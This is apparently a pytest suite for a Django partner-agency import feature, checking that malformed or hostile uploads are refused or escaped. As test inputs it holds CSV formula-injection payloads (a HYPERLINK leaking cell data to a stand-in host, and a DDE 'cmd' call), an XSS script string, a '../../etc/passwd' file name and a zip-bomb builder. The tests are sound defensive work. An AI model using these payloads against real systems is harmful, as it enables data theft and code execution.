"""Safe imports: a corpus of malformed files (made here) against the partner-agency resource,
through the import page and through the programmatic path. None gives a server error and none
imports partially: the agencies before and after a refused file are identical."""

import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from freezegun import freeze_time
from openpyxl import Workbook

from partners.models import BoardMembership, Partner
from partners.resources import PartnerResource
from wscb.audit.models import AuditAction, AuditEvent
from wscb.data import once
from wscb.data.imports import ImportRejected, read_upload, run_import

pytestmark = pytest.mark.django_db

HEADER = "name,short_name,sector,is_statutory,is_active"


def csv_bytes(*lines, encoding="utf-8", newline="\r\n") -> bytes:
    return newline.join(lines).encode(encoding) + newline.encode(encoding)


def xlsx_bytes(rows, *, extra_sheet=None, formula=None) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    if formula:
        sheet[formula[0]] = formula[1]
    if extra_sheet:
        other = workbook.create_sheet("Hidden")
        other.sheet_state = "hidden"
        for row in extra_sheet:
            other.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def zip_bytes(entries: dict) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def macro_workbook() -> bytes:
    workbook = xlsx_bytes([HEADER.split(","), ["Macro Agency", "MAC", "Health", "No", "Yes"]])
    with zipfile.ZipFile(io.BytesIO(workbook)) as source:
        entries = {info.filename: source.read(info.filename) for info in source.infolist()}
    entries["xl/vbaProject.bin"] = b"\x00" * 100
    return zip_bytes(entries)


def valid_rows(count):
    return [f"Agency {n:03d},AG{n:03d},Health,No,Yes" for n in range(1, count + 1)]


# (id, file name, content, expectation)
# expectation: ("rejected", words in the message) | ("row error", spreadsheet row, column)
#: What a Python traceback leaves in a page (server paths, line numbers): never shown to anyone.
TRACEBACK = re.compile(r'Traceback|File &quot;/|File "/|\.py&quot;, line|\.py", line|site-packages')

MALFORMED = [
    (
        "F01 required column missing",
        "a.csv",
        lambda: csv_bytes("name,short_name", "New Agency,NEW"),
        ("rejected", "missing column: Sector"),
    ),
    (
        "F02 misspelled heading",
        "a.csv",
        lambda: csv_bytes("nmae,short_name,sector", "New Agency,NEW,Health"),
        ("rejected", "unknown column: nmae"),
    ),
    (
        "F03 extra unknown column",
        "a.csv",
        lambda: csv_bytes(HEADER + ",notes", "New Agency,NEW,Health,No,Yes,hi"),
        ("rejected", "unknown column: notes"),
    ),
    (
        "F03b repeated column",
        "a.csv",
        lambda: csv_bytes("name,short_name,sector,name", "A,B,Health,C"),
        ("rejected", "repeated column: Name"),
    ),
    (
        "F03c blank heading with data under it",
        "a.csv",
        lambda: csv_bytes("name,short_name,,sector", "A,B,x,Health"),
        ("rejected", "unknown column: (blank)"),
    ),
    ("F05 headings but no rows", "a.csv", lambda: csv_bytes(HEADER), ("rejected", "no rows")),
    ("F06 empty file", "a.csv", lambda: b"", ("rejected", "empty")),
    ("F06b only blank lines", "a.csv", lambda: b"\r\n\r\n,,\r\n", ("rejected", "empty")),
    (
        "F09 UTF-16",
        "a.csv",
        lambda: (HEADER + "\r\nNew,NEW,Health,No,Yes\r\n").encode("utf-16"),
        ("rejected", "UTF-16"),
    ),
    (
        "F11 semicolons",
        "a.csv",
        lambda: csv_bytes(HEADER.replace(",", ";"), "New;NEW;Health;No;Yes"),
        ("rejected", "unknown column"),
    ),
    (
        "F12 unbalanced quote",
        "a.csv",
        lambda: csv_bytes(HEADER, '"New Agency,NEW,Health,No,Yes'),
        ("rejected", "could not be read as CSV"),
    ),
    (
        "F13 yes/no column holds text",
        "a.csv",
        lambda: csv_bytes(HEADER, "New Agency,NEW,Health,maybe,Yes"),
        ("row error", 2, "Statutory partner"),
    ),
    (
        "F14 unknown sector",
        "a.csv",
        lambda: csv_bytes(HEADER, "New Agency,NEW,Space agency,No,Yes"),
        ("row error", 2, "Sector"),
    ),
    ("F15 required cell blank", "a.csv", lambda: csv_bytes(HEADER, ",NEW,Health,No,Yes"), ("row error", 2, "Name")),
    (
        "F16 row 100 of 100 invalid",
        "a.csv",
        lambda: csv_bytes(HEADER, *valid_rows(99), "Agency 100,AG100,Nowhere,No,Yes"),
        ("row error", 101, "Sector"),
    ),
    (
        "F17 name already used by another agency",
        "a.csv",
        lambda: csv_bytes(HEADER, "Agency B Police,NEWB,Police,No,Yes"),
        ("row error", 2, "Name"),
    ),
    (
        "F18 the same agency twice in the file",
        "a.csv",
        lambda: csv_bytes(HEADER, "New Agency,NEW,Health,No,Yes", "New Agency Again,NEW,Health,No,Yes"),
        ("row error", 3, "Short name"),
    ),
    (
        "F18b differing only in case",
        "a.csv",
        lambda: csv_bytes(HEADER, "New Agency,NEW,Health,No,Yes", "Other Agency,new,Health,No,Yes"),
        ("row error", 3, "Short name"),
    ),
    (
        "F23 NUL in a cell",
        "a.csv",
        lambda: csv_bytes(HEADER, "New\x00Agency,NEW,Health,No,Yes")[:2000],
        ("rejected", "not a CSV text file"),
    ),
    (
        "F23b NUL after the first kilobyte",
        "a.csv",
        lambda: csv_bytes(HEADER, *valid_rows(40), "New\x00Agency,NEW,Health,No,Yes"),
        ("row error", 42, "Name"),
    ),
    (
        "F24 one enormous cell",
        "a.csv",
        lambda: csv_bytes(HEADER, "x" * 1_000_000 + ",NEW,Health,No,Yes"),
        ("rejected", "could not be read as CSV"),
    ),
    (
        "F24b name longer than allowed",
        "a.csv",
        lambda: csv_bytes(HEADER, "x" * 300 + ",NEW,Health,No,Yes"),
        ("row error", 2, "Name"),
    ),
    ("F25 over 5 MB", "a.csv", lambda: csv_bytes(HEADER) + b"x" * (5 * 1024 * 1024), ("rejected", "largest")),
    (
        "F26 zip bomb",
        "a.xlsx",
        lambda: zip_bytes(
            {"xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml": b"\x00" * (110 * 1024 * 1024)}
        ),
        ("rejected", "unpacks to far more"),
    ),
    (
        "F26b thousands of entries",
        "a.xlsx",
        lambda: zip_bytes({"xl/workbook.xml": b"<workbook/>", **{f"x/{n}.xml": b"" for n in range(600)}}),
        ("rejected", "unpacks to far more"),
    ),
    ("F27 a PDF called .csv", "a.csv", lambda: b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n", ("rejected", "not a CSV")),
    ("F27b a ZIP called .csv", "a.csv", lambda: zip_bytes({"a.txt": b"hello"}), ("rejected", "not a CSV")),
    ("F27c a macro workbook called .xlsx", "a.xlsx", macro_workbook, ("rejected", "macros")),
    (
        "F27d CSV text called .xlsx",
        "a.xlsx",
        lambda: csv_bytes(HEADER, "New,NEW,Health,No,Yes"),
        ("rejected", "not an Excel workbook"),
    ),
    (
        "F27e a ZIP called .xlsx",
        "a.xlsx",
        lambda: zip_bytes({"a.txt": b"hello"}),
        ("rejected", "not an Excel workbook"),
    ),
    ("F27f damaged workbook", "a.xlsx", lambda: b"PK\x03\x04" + b"\x00" * 200, ("rejected", "damaged")),
    ("F27g a text file", "a.txt", lambda: csv_bytes(HEADER, "New,NEW,Health,No,Yes"), ("rejected", "CSV file (.csv)")),
    (
        "F28 formula cell in a workbook",
        "a.xlsx",
        lambda: xlsx_bytes([HEADER.split(","), ["New Agency", "NEW", "Health", "No", "Yes"]], formula=("A2", "=1+1")),
        ("row error", 2, "Name"),
    ),
    (
        "F28b values beyond the last heading",
        "a.csv",
        lambda: csv_bytes(HEADER, "New Agency,NEW,Health,No,Yes,extra"),
        ("row error", 2, ""),
    ),
    (
        "F28c xlsx missing column",
        "a.xlsx",
        lambda: xlsx_bytes([["name", "short_name"], ["New", "NEW"]]),
        ("rejected", "missing column: Sector"),
    ),
]


def snapshot():
    return sorted(Partner.objects.values_list("pk", "name", "short_name", "sector", "is_active")) + sorted(
        BoardMembership.objects.values_list("board", "partner", "is_statutory", "started_on", "ended_on")
    )


def statutory(agency) -> bool:
    """Whether the agency is a statutory partner of the (only) board."""
    return BoardMembership.objects.get(partner=agency).is_statutory


@pytest.fixture
def agencies(agency_a, agency_b):
    return [agency_a, agency_b]


def post_file(client, name, content, **extra):
    return client.post(reverse("partners:partner-import"), {"file": SimpleUploadedFile(name, content), **extra})


def test_the_corpus_has_at_least_thirty_distinct_malformed_files():
    contents = {(case[1], case[2]()) for case in MALFORMED if case[0] not in {"F25 over 5 MB", "F26 zip bomb"}}
    assert len(MALFORMED) >= 30
    assert len(contents) == len(MALFORMED) - 2  # every file really is different


@pytest.mark.parametrize(("case", "filename", "make", "expected"), MALFORMED, ids=[case[0] for case in MALFORMED])
def test_a_malformed_file_is_refused_through_the_page_and_nothing_is_imported(
    case, filename, make, expected, agencies, as_user, business_support
):
    before = snapshot()
    content = make()
    response = post_file(as_user(business_support), filename, content)
    assert response.status_code == 400, case
    html = response.content.decode()
    assert not TRACEBACK.search(html), case
    assert snapshot() == before
    assert not AuditEvent.objects.filter(action=AuditAction.IMPORTED).exists()
    if expected[0] == "rejected":
        assert expected[1] in html.replace("&#x27;", "'"), html[:3000]
    else:
        outcome = response.context["outcome"]
        assert outcome is not None and not outcome.ok
        assert (expected[1], expected[2]) in [(error.row, error.column) for error in outcome.errors], outcome.errors
        assert "Nothing was imported" in html


@pytest.mark.parametrize(("case", "filename", "make", "expected"), MALFORMED, ids=[case[0] for case in MALFORMED])
def test_a_malformed_file_is_refused_by_the_programmatic_path_too(case, filename, make, expected, agencies, board):
    before = snapshot()
    upload = SimpleUploadedFile(filename, make())
    try:
        dataset = read_upload(
            upload,
            required=PartnerResource.REQUIRED,
            optional=PartnerResource.OPTIONAL,
            aliases=PartnerResource.ALIASES,
        )
    except ImportRejected as problem:
        assert expected[0] == "rejected" and expected[1] in str(problem)
    else:
        outcome = run_import(resource=PartnerResource(board=board), dataset=dataset)
        assert not outcome.ok and expected[0] == "row error"
    assert snapshot() == before


def test_row_by_row_errors_list_every_bad_row(agencies, as_user, business_support):
    content = csv_bytes(HEADER, "One,ONE,Health,No,Yes", "Two,TWO,Mars,No,Yes", "Three,THREE,Health,perhaps,Yes")
    outcome = post_file(as_user(business_support), "a.csv", content).context["outcome"]
    assert [(error.row, error.column) for error in outcome.errors] == [(3, "Sector"), (4, "Statutory partner")]
    assert "Choose one of" in outcome.errors[0].message
    assert not Partner.objects.filter(short_name="ONE").exists()


# --- files that are odd but correct are imported correctly ----------------------------------
def imported(client, name, content, **extra):
    """Upload (the preview writes nothing), then confirm."""
    before = snapshot()
    preview = post_file(client, name, content, **extra)
    assert preview.status_code == 200, preview.content.decode()[:3000]
    assert snapshot() == before, "the preview wrote rows"
    response = client.post(reverse("imports:confirm", args=["agencies"]), {"token": preview.context["token"]})
    assert response.status_code == 302, response.content.decode()[:3000]
    return response


def test_f04_columns_in_another_order_are_matched_by_heading(agencies, as_user, business_support):
    imported(as_user(business_support), "a.csv", csv_bytes("sector,short_name,name", "Police,NP,North Police"))
    assert Partner.objects.get(short_name="NP").name == "North Police"


def test_f07_utf8_with_a_byte_order_mark(agencies, as_user, business_support):
    imported(as_user(business_support), "a.csv", b"\xef\xbb\xbf" + csv_bytes(HEADER, "Café Trust,CAFE,Health,Yes,Yes"))
    agency = Partner.objects.get(short_name="CAFE")
    assert (agency.name, statutory(agency)) == ("Café Trust", True)


def test_f08_windows_1252_from_excel(agencies, as_user, business_support):
    content = csv_bytes(
        HEADER, "Children\u2019s Fund \u2013 \u00a35 grants,CF,Voluntary and community,No,Yes", encoding="cp1252"
    )
    imported(as_user(business_support), "a.csv", content)
    agency = Partner.objects.get(short_name="CF")
    assert agency.name == "Children\u2019s Fund \u2013 \u00a35 grants"
    assert agency.sector == Partner.Sector.VOLUNTARY


@pytest.mark.parametrize("newline", ["\r", "\n"])
def test_f10_old_mac_and_unix_line_endings(newline, agencies, as_user, business_support):
    imported(as_user(business_support), "a.csv", csv_bytes(HEADER, *valid_rows(3), newline=newline))
    assert Partner.objects.filter(short_name__startswith="AG0").count() == 3


def test_f12_a_quoted_cell_may_hold_a_comma(agencies, as_user, business_support):
    imported(as_user(business_support), "a.csv", csv_bytes(HEADER, '"Police, North",PN,Police,No,Yes'))
    assert Partner.objects.get(short_name="PN").name == "Police, North"


def test_f19_the_same_file_twice_changes_nothing_the_second_time(agencies, as_user, business_support):
    client = as_user(business_support)
    content = csv_bytes(HEADER, *valid_rows(5))
    imported(client, "a.csv", content)
    after_first = snapshot()
    with freeze_time() as clock:
        clock.tick(once.CONTENT_WINDOW)  # later, not a double submit (wscb.data.once)
        imported(client, "a.csv", content, **{once.FIELD: once.new_token(business_support)})
    assert snapshot() == after_first
    assert (
        AuditEvent.objects.filter(action=AuditAction.IMPORTED).first().detail.endswith("0 new, 0 updated, 5 unchanged")
    )


def test_f21_formula_like_names_are_stored_as_text_and_escaped_on_export(agencies, as_user, business_support, board):
    payloads = ['=HYPERLINK("http://x?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
    rows = [f'"{p.replace(chr(34), chr(34) * 2)}",F{n},Other,No,Yes' for n, p in enumerate(payloads)]
    imported(as_user(business_support), "a.csv", csv_bytes(HEADER, *rows))
    assert sorted(Partner.objects.filter(short_name__startswith="F").values_list("name", flat=True)) == sorted(payloads)
    from wscb.data.exports import csv_content

    exported = PartnerResource(board=board).export(Partner.objects.filter(short_name__startswith="F"))
    text = csv_content(exported.headers, list(exported))
    for payload in payloads:
        assert payload not in text.replace("'" + payload, "")


def test_f22_markup_in_a_name_is_stored_and_shown_escaped(agencies, as_user, business_support):
    imported(as_user(business_support), "a.csv", csv_bytes(HEADER, "<script>alert(1)</script>,XSS,Other,No,Yes"))
    html = as_user(business_support).get(reverse("partners:partner-list")).content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script>alert(1)" not in html


def test_f28_only_the_first_worksheet_is_read(agencies, as_user, business_support):
    content = xlsx_bytes(
        [HEADER.split(","), ["Sheet One Agency", "S1", "Health", "No", "Yes"]],
        extra_sheet=[HEADER.split(","), ["Hidden Agency", "HID", "Health", "No", "Yes"]],
    )
    imported(as_user(business_support), "a.xlsx", content)
    assert Partner.objects.filter(short_name="S1").exists()
    assert not Partner.objects.filter(short_name="HID").exists()


def test_f29_a_hostile_file_name_is_only_a_name(agencies, as_user, business_support, tmp_path):
    imported(as_user(business_support), "../../etc/passwd.csv", csv_bytes(HEADER, "Named Agency,NAMED,Health,No,Yes"))
    assert Partner.objects.filter(short_name="NAMED").exists()


def test_f30_spaces_and_non_breaking_spaces_are_trimmed_so_the_key_matches(agencies, as_user, business_support):
    count = Partner.objects.count()
    imported(as_user(business_support), "a.csv", csv_bytes(HEADER, "Agency A Trust ,\xa0Agency A\xa0 ,Health,No,No"))
    assert Partner.objects.count() == count
    assert Partner.objects.get(short_name="Agency A").is_active is False


def test_an_xlsx_file_is_imported_with_yes_no_and_sector_labels(agencies, as_user, business_support):
    content = xlsx_bytes(
        [["Name", "Short name", "Sector", "Statutory partner"], ["Excel Agency", "XL", "Probation", "Yes"]]
    )
    imported(as_user(business_support), "agencies.xlsx", content)
    agency = Partner.objects.get(short_name="XL")
    assert (agency.sector, statutory(agency), agency.is_active) == ("probation", True, True)


def test_too_many_rows_are_refused_before_importing(agencies, as_user, business_support, settings):
    settings.IMPORT_MAX_ROWS = 50
    before = snapshot()
    response = post_file(as_user(business_support), "a.csv", csv_bytes(HEADER, *valid_rows(60)))
    assert response.status_code == 400
    assert "more than 50 rows" in response.content.decode()
    assert snapshot() == before


def test_a_fault_mid_import_leaves_nothing_behind_and_the_database_usable(agencies, monkeypatch, board):
    dataset = read_upload(
        SimpleUploadedFile("a.csv", csv_bytes(HEADER, *valid_rows(60))),
        required=PartnerResource.REQUIRED,
        optional=PartnerResource.OPTIONAL,
        aliases=PartnerResource.ALIASES,
    )
    original_save = Partner.save
    calls = {"n": 0}

    def failing_save(self, *args, **kwargs):
        calls["n"] += 1
        if calls["n"] == 110:  # the dry run saves 60; the real run fails on its 50th row
            raise RuntimeError("disk full")
        return original_save(self, *args, **kwargs)

    before = snapshot()
    monkeypatch.setattr(Partner, "save", failing_save)
    outcome = run_import(resource=PartnerResource(board=board), dataset=dataset)
    assert not outcome.ok
    assert outcome.errors[0].row == 51 and "disk full" in outcome.errors[0].message
    assert snapshot() == before
    assert Partner.objects.count() == 2  # the connection still works


def test_a_successful_import_is_audited(agencies, as_user, business_support):
    imported(as_user(business_support), "a.csv", csv_bytes(HEADER, *valid_rows(3)))
    event = AuditEvent.objects.get(action=AuditAction.IMPORTED)
    assert event.user == business_support
    assert event.detail == "partners: 3 new, 0 updated, 0 unchanged"


def test_the_import_page_explains_the_columns(as_user, business_support):
    html = as_user(business_support).get(reverse("partners:partner-import")).content.decode()
    assert "Short name" in html and "5 MB" in html and "nothing is imported" in html


# --- the back office's import (django-import-export admin with SafeImportExportMixin) ------
ADMIN_FORMAT = {"csv": "0", "xlsx": "1", "txt": "0"}


def admin_import(client, name, content):
    return client.post(
        reverse("admin:partners_partner_import"),
        {"import_file": SimpleUploadedFile(name, content), "format": ADMIN_FORMAT[name.rsplit(".", 1)[-1]]},
    )


def admin_confirm(client, preview):
    confirm = preview.context["confirm_form"]
    data = {key: value for key, value in confirm.initial.items() if value is not None}
    return client.post(reverse("admin:partners_partner_process_import"), data)


@pytest.mark.parametrize(("case", "filename", "make", "expected"), MALFORMED, ids=[case[0] for case in MALFORMED])
def test_a_malformed_file_is_refused_by_the_back_office_import_too(
    case, filename, make, expected, agencies, as_user, business_support, settings
):
    """Finding (Low): with a repeated heading the back office showed a traceback (server paths and line
    numbers). Every refusal is a message only, with DEBUG off as in production."""
    settings.DEBUG = False
    before = snapshot()
    response = admin_import(as_user(business_support), filename, make())
    assert response.status_code == 200, case
    assert not TRACEBACK.search(response.content.decode()), (case, TRACEBACK.search(response.content.decode()))
    assert response.context.get("confirm_form") is None, f"{case}: the back office offered to import it"
    assert snapshot() == before


def test_the_back_office_imports_a_windows_1252_file_after_the_preview(agencies, as_user, business_support):
    client = as_user(business_support)
    content = csv_bytes("Name,Short name,Sector", "Children\u2019s Fund \u00a3,CF,Health", encoding="cp1252")
    preview = admin_import(client, "a.csv", content)
    assert preview.context["confirm_form"] is not None
    assert not Partner.objects.filter(short_name="CF").exists()
    assert admin_confirm(client, preview).status_code == 302
    assert Partner.objects.get(short_name="CF").name == "Children\u2019s Fund \u00a3"


def test_the_back_office_explains_why_a_file_was_refused(agencies, as_user, business_support):
    html = admin_import(as_user(business_support), "a.csv", b"%PDF-1.4 not a spreadsheet").content.decode()
    assert "not a CSV text file" in html


def test_the_back_office_export_escapes_formulae(agencies, as_user, business_support):
    from tests.partners.factories import PartnerFactory

    PartnerFactory(name="=HYPERLINK(1)", short_name="@EVIL", sector="other")
    response = as_user(business_support).post(
        reverse("admin:partners_partner_export"),
        {"format": "0", "resource": "0", "partnerresource_name": "on", "partnerresource_short_name": "on"},
    )
    text = response.content.decode("utf-8-sig")
    assert "'=HYPERLINK(1)" in text and "'@EVIL" in text
    assert "\n=HYPERLINK" not in text


def test_partner_leads_and_board_members_cannot_import_in_the_back_office(agencies, as_user, lead_a, board_member):
    for user in (lead_a, board_member):
        response = admin_import(as_user(user), "a.csv", csv_bytes(HEADER, "New,NEW,Health,No,Yes"))
        assert response.status_code == 403
    assert not Partner.objects.filter(short_name="NEW").exists()
